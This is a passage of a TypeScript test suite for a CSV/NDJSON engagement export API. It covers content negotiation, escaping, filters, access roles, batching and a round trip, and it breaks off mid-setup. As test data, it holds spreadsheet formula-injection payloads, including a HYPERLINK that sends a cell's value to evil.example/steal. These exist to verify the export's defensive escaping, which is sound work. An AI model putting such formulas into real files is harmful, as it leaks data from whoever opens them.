import type { AddressInfo } from 'node:net';
import { jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type request from 'supertest';
import { Clock } from '../src/common/clock.js';
import { addDays, todayUtc } from '../src/common/dates.js';
import {
  activeEngagement,
  daysFromToday,
  type EngagementBody,
  newEngagement,
  newEngagementIn,
  newMilestone,
  newPerson,
  newVendor,
  type PersonBody,
  proveCapability,
  uniqueSuffix,
  validSpec,
} from './factories.js';
import {
  bearer,
  createTestApp,
  expectProblem,
  externalDatabaseUrl,
  type TestApp,
} from './test-app.js';

/**
 * The engagement export (SPEC §10): CSV (the import's columns plus the read-only ones,
 * formula-safe) or NDJSON (one engagement response a line), negotiated by Accept or
 * `?format=`, with the list's filters, each row with today's risk, streamed from a cursor in
 * batches, scoped for product owners, and — most of all — an exported CSV that imports into an
 * empty instance and exports again the same.
 */

const EXPORT_PATH = '/v1/engagements/export';

const EXPORT_COLUMNS = [
  'id',
  'title',
  'vendorName',
  'contractRef',
  'productOwnerEmail',
  'problem',
  'successMetrics',
  'constraints',
  'tradeOffOwnerEmail',
  'tradeOffRule',
  'knowledgeRecipientEmails',
  'startDate',
  'contractEndDate',
  'noticePeriodDays',
  'finalHandoverDate',
  'criticality',
  'status',
  'riskLevel',
  'riskScore',
  'dependencyTrap',
  'lastSafeHandoverDate',
  'createdAt',
];

type CsvRow = Record<string, string>;

interface RiskSummary {
  level: string;
  score: number;
  dependencyTrap: boolean;
}

type ExportedEngagement = EngagementBody & { risk: RiskSummary };

interface Download {
  response: request.Response;
  text: string;
}

/** GET the export, buffered as text whatever its media type. */
async function download(
  t: TestApp,
  query: Record<string, unknown> = {},
  options: { key?: string; accept?: string } = {},
): Promise<Download> {
  let call = t
    .http()
    .get(EXPORT_PATH)
    .query(query)
    .set(bearer(options.key ?? t.adminKey))
    .buffer(true);
  if (options.accept !== undefined) call = call.set('Accept', options.accept);
  const response = await call;
  return { response, text: response.text };
}

function expectOk(download: Download): Download {
  if (download.response.status !== 200) {
    throw new Error(`The export answered ${download.response.status}: ${download.text}`);
  }
  return download;
}

function csvRows(text: string): CsvRow[] {
  return parse(text, { columns: true }) as CsvRow[];
}

function ndjsonLines(text: string): ExportedEngagement[] {
  if (text === '') return [];
  expect(text.endsWith('\n')).toBe(true);
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as ExportedEngagement);
}

async function exportCsv(
  t: TestApp,
  query: Record<string, unknown> = {},
  key?: string,
): Promise<CsvRow[]> {
  const { response, text } = expectOk(await download(t, { ...query, format: 'csv' }, { key }));
  expect(response.headers['content-type']).toMatch(/^text\/csv/);
  return csvRows(text);
}

async function exportNdjson(
  t: TestApp,
  query: Record<string, unknown> = {},
  key?: string,
): Promise<ExportedEngagement[]> {
  const { response, text } = expectOk(await download(t, { ...query, format: 'ndjson' }, { key }));
  expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
  return ndjsonLines(text);
}

async function getEngagement(t: TestApp, id: string): Promise<ExportedEngagement> {
  const response = await t.http().get(`/v1/engagements/${id}`).set(bearer(t.adminKey));
  expect(response.status).toBe(200);
  return response.body as ExportedEngagement;
}

/** The ids the list answers for these filters, every page, in its order. */
async function listedIds(t: TestApp, query: Record<string, unknown>): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | undefined;
  do {
    const response = await t
      .http()
      .get('/v1/engagements')
      .query({ ...query, limit: 200, ...(cursor ? { cursor } : {}) })
      .set(bearer(t.adminKey));
    expect(response.status).toBe(200);
    ids.push(...(response.body.items as { id: string }[]).map((item) => item.id));
    cursor = response.body.nextCursor ?? undefined;
  } while (cursor);
  return ids;
}

async function importJson(
  t: TestApp,
  rows: unknown[],
): Promise<{ created: number; engagementIds: string[] }> {
  const response = await t
    .http()
    .post('/v1/imports/engagements')
    .query({ createMissing: true })
    .set(bearer(t.adminKey))
    .send(rows);
  if (response.status !== 201) {
    throw new Error(`The import answered ${response.status}: ${JSON.stringify(response.body)}`);
  }
  return response.body;
}

const byKey = <T>(items: T[], key: (item: T) => string): Map<string, T> =>
  new Map(items.map((item) => [key(item), item]));

const withoutColumns = (row: CsvRow, columns: string[]): CsvRow =>
  Object.fromEntries(Object.entries(row).filter(([column]) => !columns.includes(column)));

// ------------------------------------------------------------------------------------------

describe('export formats and content negotiation', () => {
  let t: TestApp;
  let engagements: EngagementBody[];

  beforeAll(async () => {
    t = await createTestApp();
    const vendor = await newVendor(t);
    engagements = [];
    for (let i = 0; i < 3; i++) {
      engagements.push(await newEngagement(t, t.adminKey, { vendorId: vendor.id }));
    }
  });
  afterAll(() => t.close());

  it('answers CSV without an Accept header, as an attachment named after today', async () => {
    const { response, text } = expectOk(await download(t));
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="handover-engagements-${todayUtc()}.csv"`,
    );
    expect(csvRows(text).map((row) => row.id)).toEqual(engagements.map((e) => e.id));
  });

  it('answers CSV for an Accept that prefers or allows only text/csv', async () => {
    for (const accept of [
      '*/*',
      'text/csv',
      'TEXT/CSV',
      'text/*',
      'text/csv, application/x-ndjson;q=0.5',
    ]) {
      const { response, text } = expectOk(await download(t, {}, { accept }));
      expect([accept, response.headers['content-type']]).toEqual([
        accept,
        'text/csv; charset=utf-8',
      ]);
      expect(text.startsWith(`${EXPORT_COLUMNS.join(',')}\r\n`)).toBe(true);
    }
  });

  it('answers NDJSON for an Accept that prefers or allows only application/x-ndjson', async () => {
    for (const accept of [
      'application/x-ndjson',
      'application/*',
      'text/csv;q=0.2, application/x-ndjson',
      'application/json, application/x-ndjson;q=0.1',
    ]) {
      const { response, text } = expectOk(await download(t, {}, { accept }));
      expect([accept, response.headers['content-type']]).toEqual([
        accept,
        'application/x-ndjson; charset=utf-8',
      ]);
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="handover-engagements-${todayUtc()}.ndjson"`,
      );
      expect(ndjsonLines(text).map((line) => line.id)).toEqual(engagements.map((e) => e.id));
    }
  });

  it('answers a 406 problem for an Accept that allows neither format', async () => {
    for (const accept of ['application/json', 'text/html', 'text/csv;q=0', 'image/*']) {
      const { response } = await download(t, {}, { accept });
      const problem = expectProblem(response, 406, 'not-acceptable');
      expect(problem.detail).toContain('text/csv');
      expect(problem.detail).toContain('application/x-ndjson');
    }
  });

  it('honours text/csv;q=0 next to */*: answers NDJSON, not CSV', async () => {
    const { response } = expectOk(await download(t, {}, { accept: '*/*, text/csv;q=0' }));
    expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
  });

  it('lets ?format choose over the Accept header', async () => {
    const ndjson = expectOk(await download(t, { format: 'ndjson' }, { accept: '*/*' }));
    expect(ndjson.response.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(ndjson.response.headers['content-disposition']).toMatch(/\.ndjson"$/);
    const csv = expectOk(
      await download(t, { format: 'csv' }, { accept: 'application/x-ndjson, text/csv;q=0.1' }),
    );
    expect(csv.response.headers['content-type']).toMatch(/^text\/csv/);
    expect(csvRows(csv.text)).toHaveLength(engagements.length);
  });

  it('gives every NDJSON line exactly as GET /v1/engagements/{id} answers it', async () => {
    const lines = await exportNdjson(t);
    expect(lines).toHaveLength(engagements.length);
    for (const line of lines) expect(line).toEqual(await getEngagement(t, line.id));
  });

  it('requires an API key', async () => {
    const response = await t.http().get(EXPORT_PATH);
    expectProblem(response, 401);
  });
});

// ------------------------------------------------------------------------------------------

describe('export CSV rows', () => {
  let t: TestApp;
  let owner: PersonBody;
  let tradeOffOwner: PersonBody;
  let recipients: PersonBody[];
  let rich: EngagementBody;
  let bare: EngagementBody;
  let rows: Map<string, CsvRow>;
  let text: string;
  const vendorName = `Acme, "AI" Zürich ${uniqueSuffix()}`;
  const finalHandoverDate = daysFromToday(90);
  const contractEndDate = daysFromToday(200);
  const formulaTitle = '=HYPERLINK("https://evil.example/x","Click me")';
  const problem =
    'Accounts payable keys 4,000 invoices a month by hand, with "copy & paste".\nErrors delay payments by 6 days.';

  beforeAll(async () => {
    t = await createTestApp();
    const vendor = await newVendor(t, t.adminKey, { name: vendorName });
    owner = await newPerson(t);
    tradeOffOwner = await newPerson(t);
    // Created in reverse alphabetical order, so that the sorted e-mails differ from the ids' order.
    recipients = [];
    for (const name of ['zoe', 'mia', 'abe']) {
      recipients.push(
        await newPerson(t, t.adminKey, { email: `${name}-${uniqueSuffix()}@example.com` }),
      );
    }
    rich = await newEngagement(t, t.adminKey, {
      title: formulaTitle,
      vendorId: vendor.id,
      productOwnerId: owner.id,
      contractRef: `CR-${uniqueSuffix()}`,
      knowledgeRecipientIds: recipients.map((person) => person.id),
      startDate: daysFromToday(-10),
      contractEndDate,
      noticePeriodDays: 30,
      criticality: 'critical',
      spec: {
        problem,
        successMetrics: [
          { name: 'Latency: p95; warm', target: '≤ 200 ms; cold ≤ 1 s' },
          { name: 'Path C:\\data', target: '100 %' },
        ],
        constraints: ['EU only; never the US', '+20 % budget at most', 'Back\\slash'],
        tradeOffOwnerId: tradeOffOwner.id,
        tradeOffRule: '@owner decides, "always"',
      },
    });
    await newMilestone(t, t.adminKey, rich.id, {
      name: 'Final handover',
      kind: 'final_handover',
      dueDate: finalHandoverDate,
    });
    bare = await newEngagement(t, t.adminKey, {
      spec: { tradeOffRule: null, problem: `-${validSpec(owner.id).problem}` },
    });
    const downloaded = expectOk(await download(t));
    text = downloaded.text;
    rows = byKey(csvRows(text), (row) => row.id);
  });
  afterAll(() => t.close());

  it('has the header row of every column, in order, one row per engagement, and CRLF line ends', () => {
    expect(text.split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(','));
    expect(text.endsWith('\r\n')).toBe(true);
    // Outside quoted cells there is no bare LF: the problem's line break is inside its quotes.
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted).not.toMatch(/[^\r]\n/);
    expect(unquoted.split('\r\n')).toHaveLength(rows.size + 2);
    expect([...rows.keys()].sort()).toEqual([rich.id, bare.id].sort());
  });

  it('names references by vendor name and e-mail, recipients sorted and ;-separated', () => {
    const row = rows.get(rich.id) as CsvRow;
    expect(row.vendorName).toBe(vendorName);
    expect(row.productOwnerEmail).toBe(owner.email);
    expect(row.tradeOffOwnerEmail).toBe(tradeOffOwner.email);
    expect(row.knowledgeRecipientEmails).toBe(
      recipients
        .map((person) => person.email)
        .sort()
        .join(';'),
    );
  });

  it('writes success metrics as escaped name: target pairs and constraints ;-separated', () => {
    const row = rows.get(rich.id) as CsvRow;
    expect(row.successMetrics).toBe(
      'Latency\\: p95\\; warm: ≤ 200 ms\\; cold ≤ 1 s;Path C\\:\\\\data: 100 %',
    );
    expect(row.constraints).toBe('EU only\\; never the US;+20 % budget at most;Back\\\\slash');
  });

  it('keeps commas, quotes and line breaks inside a quoted cell', () => {
    expect(rows.get(rich.id)?.problem).toBe(problem);
    expect(text).toContain(`"${problem.replace(/"/g, '""')}"`);
    expect(rows.get(rich.id)?.tradeOffRule).toBe(`'@owner decides, "always"`);
  });

  it('prefixes a cell a spreadsheet would run as a formula with an apostrophe', () => {
    expect(rows.get(rich.id)?.title).toBe(`'${formulaTitle}`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/x"",""Click me"")"`);
    expect(rows.get(bare.id)?.problem).toBe(`'-${validSpec(owner.id).problem}`);
    // Only the start of a cell counts: the + of the second constraint is not at it.
    expect(rows.get(rich.id)?.constraints.startsWith('EU only')).toBe(true);
  });

  it('writes the dates, notice period, criticality and status of the engagement', () => {
    const row = rows.get(rich.id) as CsvRow;
    expect(row).toMatchObject({
      contractRef: rich.contractRef,
      startDate: daysFromToday(-10),
      contractEndDate,
      noticePeriodDays: '30',
      finalHandoverDate,
      criticality: 'critical',
      status: 'draft',
      lastSafeHandoverDate: addDays(contractEndDate, -30),
      createdAt: rich.createdAt,
    });
  });

  it('leaves the cells of absent values empty', () => {
    expect(rows.get(bare.id)).toMatchObject({
      contractRef: '',
      tradeOffRule: '',
      knowledgeRecipientEmails: '',
      startDate: '',
      contractEndDate: '',
      noticePeriodDays: '0',
      finalHandoverDate: '',
      criticality: 'standard',
      lastSafeHandoverDate: '',
    });
  });

  it("carries each engagement's current risk as GET /v1/engagements/{id} shows it", async () => {
    for (const [id, row] of rows) {
      const { risk } = await getEngagement(t, id);
      expect({
        riskLevel: row.riskLevel,
        riskScore: row.riskScore,
        dependencyTrap: row.dependencyTrap,
      }).toEqual({
        riskLevel: risk.level,
        riskScore: String(risk.score),
        dependencyTrap: String(risk.dependencyTrap),
      });
    }
    // No knowledge transfer planned at all: a dependency trap even as a draft.
    expect(rows.get(bare.id)?.dependencyTrap).toBe('true');
  });
});

// ------------------------------------------------------------------------------------------

describe('export filters (the list’s) and risk', () => {
  let t: TestApp;
  let vendorA: string;
  let vendorB: string;
  let ownerA: PersonBody;
  let recipient: PersonBody;
  let early: EngagementBody;
  let late: EngagementBody;
  let healthy: EngagementBody;
  let capable: EngagementBody;
  let completed: EngagementBody;
  let cancelled: EngagementBody;
  let all: string[];

  beforeAll(async () => {
    t = await createTestApp();
    vendorA = (await newVendor(t)).id;
    vendorB = (await newVendor(t)).id;
    ownerA = await newPerson(t);
    recipient = await newPerson(t);
    early = await newEngagement(t, t.adminKey, {
      title: 'Invoice extraction 100% literal',
      vendorId: vendorA,
      productOwnerId: ownerA.id,
      knowledgeRecipientIds: [recipient.id],
      criticality: 'critical',
    });
    await newMilestone(t, t.adminKey, early.id, {
      kind: 'final_handover',
      dueDate: daysFromToday(20),
    });
    late = await newEngagement(t, t.adminKey, {
      title: 'Contract review assistant',
      vendorId: vendorB,
      productOwnerId: ownerA.id,
    });
    await newMilestone(t, t.adminKey, late.id, {
      kind: 'final_handover',
      dueDate: daysFromToday(120),
    });
    healthy = (await activeEngagement(t, { vendorId: vendorB, finalDueIn: 60 })).engagement;
    capable = (await activeEngagement(t, { vendorId: vendorA, finalDueIn: 70 })).engagement;
    await proveCapability(t, capable);
    completed = (await newEngagementIn(t, 'completed')).engagement;
    cancelled = (await newEngagementIn(t, 'cancelled')).engagement;
    all = (await exportCsv(t)).map((row) => row.id);
  });
  afterEach(() => jest.restoreAllMocks());
  afterAll(() => t.close());

  const setToday = (days: number) =>
    jest
      .spyOn(t.app.get(Clock), 'now')
      .mockReturnValue(new Date(`${daysFromToday(days)}T12:00:00.000Z`));

  /** Each row's risk next to GET /v1/engagements/{id}'s, and each NDJSON line next to GET. */
  async function expectCurrentRisk(): Promise<void> {
    const rows = await exportCsv(t);
    const lines = byKey(await exportNdjson(t), (line) => line.id);
    expect(rows.length).toBe(all.length);
    for (const row of rows) {
      const engagement = await getEngagement(t, row.id);
      expect([row.status, row.riskLevel, row.riskScore, row.dependencyTrap]).toEqual([
        engagement.status,
        engagement.risk.level,
        String(engagement.risk.score),
        String(engagement.risk.dependencyTrap),
      ]);
      expect(lines.get(row.id)).toEqual(engagement);
    }
  }

  it('exports every engagement, in any status, oldest first, without filters', () => {
    expect(all).toEqual(
      [early, late, healthy, capable, completed, cancelled].map((engagement) => engagement.id),
    );
  });

  it('gives every row, in every status, the risk and body GET /v1/engagements/{id} gives', async () => {
    await expectCurrentRisk();
    const rows = byKey(await exportCsv(t), (row) => row.id);
    // Completed and cancelled engagements carry no risk.
    for (const closed of [completed, cancelled]) {
      expect(rows.get(closed.id)).toMatchObject({
        riskLevel: 'none',
        riskScore: '0',
        dependencyTrap: 'false',
      });
    }
  });

  it('judges risk, filters by it and dates the file as of the app’s today', async () => {
    setToday(61);
    // The active engagement's final handover (due in 60 days) is now overdue.
    await expectCurrentRisk();
    const critical = await exportCsv(t, { minRiskLevel: 'critical' });
    expect(critical.map((row) => row.id)).toContain(healthy.id);
    expect(critical.map((row) => row.id)).toEqual(await listedIds(t, { minRiskLevel: 'critical' }));
    const { response } = expectOk(await download(t));
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="handover-engagements-${daysFromToday(61)}.csv"`,
    );
  });

  it('exports what the list shows for each filter, in its order, as CSV and NDJSON', async () => {
    const filterSets: Record<string, unknown>[] = [
      { status: 'active' },
      { status: 'completed' },
      { vendorId: vendorA },
      { productOwnerId: ownerA.id },
      { knowledgeRecipientId: recipient.id },
      { q: 'EXTRACTION 100%' },
      { handoverDueBefore: daysFromToday(60) },
      { handoverDueAfter: daysFromToday(61) },
      { minRiskLevel: 'high' },
      { minRiskLevel: 'low' },
      { dependencyTrap: true },
      { dependencyTrap: false },
      { criticality: 'critical' },
      { minIndependentOperators: 2 },
      { sort: '-riskScore' },
      { status: 'active', vendorId: vendorB },
      { vendorId: vendorA, sort: '-riskScore' },
      { minRiskLevel: 'medium', sort: '-riskScore', criticality: 'standard' },
    ];
    for (const query of filterSets) {
      const expected = await listedIds(t, query);
      expect({ query, csv: (await exportCsv(t, query)).map((row) => row.id) }).toEqual({
        query,
        csv: expected,
      });
      expect({ query, ndjson: (await exportNdjson(t, query)).map((line) => line.id) }).toEqual({
        query,
        ndjson: expected,
      });
    }
  });

  it('selects by each filter the engagements it names', async () => {
    const ids = async (query: Record<string, unknown>) =>
      (await exportCsv(t, query)).map((row) => row.id);
    expect(await ids({ status: 'active' })).toEqual([healthy.id, capable.id]);
    expect(await ids({ vendorId: vendorA, status: 'draft' })).toEqual([early.id]);
    expect(await ids({ productOwnerId: ownerA.id })).toEqual([early.id, late.id]);
    expect(await ids({ knowledgeRecipientId: recipient.id })).toEqual([early.id]);
    expect(await ids({ q: 'extraction 100%' })).toEqual([early.id]);
    expect(await ids({ q: 'extraction_100' })).toEqual([]);
    expect(await ids({ q: 'REVIEW' })).toEqual([late.id]);
    expect(await ids({ handoverDueBefore: daysFromToday(20) })).toEqual([early.id]);
    expect(await ids({ handoverDueAfter: daysFromToday(100), status: 'draft' })).toEqual([late.id]);
    expect(await ids({ criticality: 'critical' })).toEqual([early.id]);
    expect(await ids({ minIndependentOperators: 2 })).toEqual([capable.id]);
  });

  it('partitions the engagements by dependencyTrap, each row showing the one asked for', async () => {
    const trapped = await exportCsv(t, { dependencyTrap: true });
    const free = await exportCsv(t, { dependencyTrap: false });
    expect(trapped.every((row) => row.dependencyTrap === 'true')).toBe(true);
    expect(free.every((row) => row.dependencyTrap === 'false')).toBe(true);
    expect([...trapped, ...free].map((row) => row.id).sort()).toEqual([...all].sort());
    expect(trapped.map((row) => row.id)).toContain(early.id);
  });

  it('orders by risk score, highest first, with sort=-riskScore and loses no engagement', async () => {
    const sorted = await exportCsv(t, { sort: '-riskScore' });
    const scores = sorted.map((row) => Number(row.riskScore));
    expect(scores).toEqual([...scores].sort((x, y) => y - x));
    expect(sorted.map((row) => row.id).sort()).toEqual([...all].sort());
  });

  it('keeps only the rows at or above minRiskLevel', async () => {
    const order = ['none', 'low', 'medium', 'high', 'critical'];
    const rows = await exportCsv(t, { minRiskLevel: 'medium' });
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map((row) => row.id)).toEqual(
      (await exportCsv(t))
        .filter((row) => order.indexOf(row.riskLevel) >= order.indexOf('medium'))
        .map((row) => row.id),
    );
  });

  it('exports only the header row (and an empty NDJSON body) when nothing matches', async () => {
    const { text } = expectOk(await download(t, { q: 'no engagement is called this' }));
    expect(text).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`);
    const ndjson = expectOk(
      await download(t, { q: 'no engagement is called this', format: 'ndjson' }),
    );
    expect(ndjson.text).toBe('');
  });

  it('answers 400 naming the filter for a bad filter value, and for paging parameters', async () => {
    const bad: [string, string][] = [
      ['status', 'finished'],
      ['vendorId', 'not-a-uuid'],
      ['productOwnerId', '42'],
      ['knowledgeRecipientId', 'someone'],
      ['handoverDueBefore', '2027-02-30'],
      ['handoverDueAfter', 'tomorrow'],
      ['minRiskLevel', 'severe'],
      ['dependencyTrap', 'maybe'],
      ['criticality', 'vital'],
      ['minIndependentOperators', '-1'],
      ['minIndependentOperators', 'two'],
      ['sort', 'title'],
      ['q', 'x'.repeat(201)],
      ['format', 'json'],
      // The export has no pages.
      ['limit', '10'],
      ['cursor', 'abc'],
    ];
    for (const [field, value] of bad) {
      const { response } = await download(t, { [field]: value });
      const problem = expectProblem(response, 400, 'validation');
      expect({ field, named: (problem.errors ?? []).map((error) => error.field) }).toEqual({
        field,
        named: expect.arrayContaining([field]),
      });
    }
  });
});

// ------------------------------------------------------------------------------------------

describe('who may export', () => {
  let t: TestApp;
  let owner: PersonBody;
  let other: PersonBody;
  let owned: EngagementBody[];
  let ids: string[];

  beforeAll(async () => {
    t = await createTestApp();
    owner = await newPerson(t);
    other = await newPerson(t);
    owned = [
      await newEngagement(t, t.adminKey, { productOwnerId: owner.id }),
      await newEngagement(t, t.adminKey, { productOwnerId: owner.id }),
    ];
    await newEngagement(t, t.adminKey, { productOwnerId: other.id });
    await newEngagement(t);
    ids = (await exportCsv(t)).map((row) => row.id);
  });
  afterAll(() => t.close());

  it('lets admin, procurement, integration and viewer keys export every engagement', async () => {
    expect(ids).toHaveLength(4);
    for (const role of ['admin', 'procurement', 'integration', 'viewer'] as const) {
      const key = role === 'admin' ? t.adminKey : await t.keyFor(role);
      expect({ role, csv: (await exportCsv(t, {}, key)).map((row) => row.id) }).toEqual({
        role,
        csv: ids,
      });
      expect({ role, ndjson: (await exportNdjson(t, {}, key)).map((line) => line.id) }).toEqual({
        role,
        ndjson: ids,
      });
    }
  });

  it('forbids a reporter key, in either format', async () => {
    const key = await t.keyFor('reporter');
    expectProblem((await download(t, {}, { key })).response, 403);
    expectProblem((await download(t, { format: 'ndjson' }, { key })).response, 403);
  });

  it('exports to a product owner key only the engagements its person owns', async () => {
    const key = await t.keyFor('product_owner', owner.id);
    const expected = owned.map((engagement) => engagement.id);
    expect((await exportCsv(t, {}, key)).map((row) => row.id)).toEqual(expected);
    expect((await exportNdjson(t, {}, key)).map((line) => line.id)).toEqual(expected);
    expect((await exportCsv(t, { productOwnerId: owner.id }, key)).map((row) => row.id)).toEqual(
      expected,
    );
    // Other filters narrow the own engagements, never widen them.
    expect((await exportCsv(t, { vendorId: owned[1].vendorId }, key)).map((row) => row.id)).toEqual(
      [owned[1].id],
    );
  });

  it("forbids a product owner key to ask for another person's engagements", async () => {
    const key = await t.keyFor('product_owner', owner.id);
    const problem = expectProblem(
      (await download(t, { productOwnerId: other.id }, { key })).response,
      403,
    );
    expect(problem.detail).toMatch(/product owner/i);
  });

  // A UUID is case-insensitive, as the list and PostgreSQL treat it.
  it('lets a product owner key name its own id in upper case', async () => {
    const key = await t.keyFor('product_owner', owner.id);
    const rows = await exportCsv(t, { productOwnerId: owner.id.toUpperCase() }, key);
    expect(rows.map((row) => row.id)).toEqual(owned.map((engagement) => engagement.id));
  });

  it('exports only the header row to a product owner who owns nothing', async () => {
    const nobody = await newPerson(t);
    const key = await t.keyFor('product_owner', nobody.id);
    expect(await exportCsv(t, {}, key)).toEqual([]);
    expect(await exportNdjson(t, {}, key)).toEqual([]);
  });
});

// ------------------------------------------------------------------------------------------

describe('export of more engagements than one cursor batch (500)', () => {
  const COUNT = 1200;
  let t: TestApp;
  let importedIds: string[];
  const suffix = uniqueSuffix();
  const vendors = [`Batch vendor A ${suffix}`, `Batch vendor B ${suffix}`];

  beforeAll(async () => {
    t = await createTestApp();
    const rows = Array.from({ length: COUNT }, (_, index) => ({
      title: `Bulk engagement ${index}`,
      vendorName: vendors[index % 2],
      contractRef: `BULK-${suffix}-${String(index).padStart(4, '0')}`,
      productOwnerEmail: `owner-${index % 7}-${suffix}@example.com`,
      knowledgeRecipientEmails: [`recipient-${index % 5}-${suffix}@example.com`],
      ...(index % 3 === 0 ? { finalHandoverDate: daysFromToday(30 + (index % 90)) } : {}),
      spec: {
        problem: `Engagement ${index}: suppliers' invoices are keyed by hand, 4,000 a month.`,
        successMetrics: [{ name: 'Fields extracted correctly', target: '≥ 97 %' }],
        constraints: ['Invoices never leave the EU'],
        tradeOffOwnerEmail: `tradeoffs-${suffix}@example.com`,
      },
    }));
    const imported = await importJson(t, rows);
    expect(imported.created).toBe(COUNT);
    importedIds = imported.engagementIds;
  });
  afterAll(() => t.close());

  it('streams every engagement exactly once as CSV, in the list’s order', async () => {
    const rows = await exportCsv(t);
    expect(rows).toHaveLength(COUNT);
    const ids = rows.map((row) => row.id);
    expect(new Set(ids).size).toBe(COUNT);
    expect([...ids].sort()).toEqual([...importedIds].sort());
    expect(new Set(rows.map((row) => row.contractRef)).size).toBe(COUNT);
    expect(ids).toEqual(await listedIds(t, {}));
  });

  it('streams every engagement exactly once as NDJSON', async () => {
    const lines = await exportNdjson(t);
    expect(lines).toHaveLength(COUNT);
    expect(new Set(lines.map((line) => line.id)).size).toBe(COUNT);
    expect(lines.map((line) => line.id).sort()).toEqual([...importedIds].sort());
  });

  it('names each row’s references right across batch boundaries', async () => {
    const rows = await exportCsv(t);
    for (const row of rows) {
      const index = Number(row.contractRef.slice(-4));
      expect(row.title).toBe(`Bulk engagement ${index}`);
      expect(row.vendorName).toBe(vendors[index % 2]);
      expect(row.productOwnerEmail).toBe(`owner-${index % 7}-${suffix}@example.com`);
      expect(row.knowledgeRecipientEmails).toBe(`recipient-${index % 5}-${suffix}@example.com`);
      expect(row.finalHandoverDate).toBe(index % 3 === 0 ? daysFromToday(30 + (index % 90)) : '');
    }
  });

  it('gives rows in every batch their own risk', async () => {
    const rows = await exportCsv(t);
    // With and without a final handover the risk differs; within each group it is the same.
    const riskOf = (row: CsvRow) => `${row.riskLevel}/${row.riskScore}/${row.dependencyTrap}`;
    const planned = new Set(rows.filter((row) => row.finalHandoverDate !== '').map(riskOf));
    const unplanned = new Set(rows.filter((row) => row.finalHandoverDate === '').map(riskOf));
    expect([planned.size, unplanned.size]).toEqual([1, 1]);
    expect([...planned][0]).not.toBe([...unplanned][0]);
    for (const position of [0, 1, 2, 499, 500, 501, 999, 1000, 1001, COUNT - 1]) {
      const { risk } = await getEngagement(t, rows[position].id);
      expect(riskOf(rows[position])).toBe(`${risk.level}/${risk.score}/${risk.dependencyTrap}`);
    }
  });

  it('filters across batches: one vendor’s 600, and a sort by risk over all 1,200', async () => {
    const vendorId = (await exportNdjson(t, { q: 'Bulk engagement 1' })).find(
      (line) => line.title === 'Bulk engagement 1',
    )?.vendorId as string;
    const ofVendor = await exportCsv(t, { vendorId });
    expect(ofVendor).toHaveLength(COUNT / 2);
    expect(ofVendor.every((row) => row.vendorName === vendors[1])).toBe(true);
    expect(new Set(ofVendor.map((row) => row.id)).size).toBe(COUNT / 2);
    const byRisk = await exportCsv(t, { sort: '-riskScore' });
    expect(new Set(byRisk.map((row) => row.id)).size).toBe(COUNT);
    expect(byRisk.map((row) => row.id)).toEqual(await listedIds(t, { sort: '-riskScore' }));
  });

  // PostgreSQL only: the embedded database has one connection, which an export holds while
  // it streams (README), so a write waits for the export to end.
  (externalDatabaseUrl ? it : it.skip)(
    'reads one snapshot: a slow reader does not block writes, nor sees what they add',
    async () => {
      await t.app.listen(0, '127.0.0.1');
      const { port } = t.app.getHttpServer().address() as AddressInfo;
      const response = await fetch(`http://127.0.0.1:${port}${EXPORT_PATH}`, {
        headers: { ...bearer(t.adminKey), Accept: 'text/csv' },
      });
      expect(response.status).toBe(200);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      const decoder = new TextDecoder();
      const first = await reader.read();
      let text = decoder.decode(first.value, { stream: true });
      // While the export is half read, a new engagement is written and listed at once.
      const added = await newEngagement(t, t.adminKey, { title: 'Written while exporting' });
      expect(await listedIds(t, { q: 'Written while exporting' })).toEqual([added.id]);
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
        text += decoder.decode(chunk.value, { stream: true });
      }
      text += decoder.decode();
      const ids = csvRows(text).map((row) => row.id);
      expect(ids).toHaveLength(COUNT);
      expect(new Set(ids).size).toBe(COUNT);
      expect(ids).not.toContain(added.id);
      // The next export sees it.
      expect((await exportCsv(t, { q: 'Written while exporting' })).map((row) => row.id)).toEqual([
        added.id,
      ]);
    },
  );
});

// ------------------------------------------------------------------------------------------

describe('round trip: an export of A imports into an empty B, which exports the same', () => {
  let a: TestApp;
  let b: TestApp;
  const s = uniqueSuffix();
  const ref = (n: number) => `RT-${s}-${n}`;
  const vendorNames = [`Acme, "AI" GmbH ${s}`, `Zürich Labs ${s}`, `Plain Vendor ${s}`];
  const formulaTitle = '=HYPERLINK("https://evil.example/steal?d="&A1,"Invoice report")';
  const richProblem =
    'Accounts payable keys 4,000 supplier invoices a month by hand, "copy & paste" style;\n' +
    'errors delay payments by 6 days.\nThird line: with a colon, a semicolon; and a \\ backslash.';
  const crlfProblem =
    'Contract review takes 3 weeks,\r\nand "legal" is the bottleneck every quarter.';
  let exportA: string;
  let dryRun: request.Response;
  let imported: request.Response;
  let exportB: string;
  let engagementsA: Map<string, ExportedEngagement>;
  let engagementsB: Map<string, ExportedEngagement>;
  let emailsA: Map<string, string>;

  /** Every person of an app, id → e-mail. */
  async function emailsOf(t: TestApp): Promise<Map<string, string>> {
    const emails = new Map<string, string>();
    let cursor: string | undefined;
    do {
      const response = await t
        .http()
        .get('/v1/people')
        .query({ limit: 200, ...(cursor ? { cursor } : {}) })
        .set(bearer(t.adminKey));
      expect(response.status).toBe(200);
      for (const person of response.body.items as PersonBody[]) emails.set(person.id, person.email);
      cursor = response.body.nextCursor ?? undefined;
    } while (cursor);
    return emails;
  }

  async function finalHandoverDue(t: TestApp, engagementId: string): Promise<string | null> {
    const response = await t
      .http()
      .get(`/v1/engagements/${engagementId}/milestones`)
      .set(bearer(t.adminKey));
    expect(response.status).toBe(200);
    const finals = (response.body.items as { kind: string; dueDate: string }[]).filter(
      (milestone) => milestone.kind === 'final_handover',
    );
    expect(finals.length).toBeLessThanOrEqual(1);
    return finals[0]?.dueDate ?? null;
  }

  beforeAll(async () => {
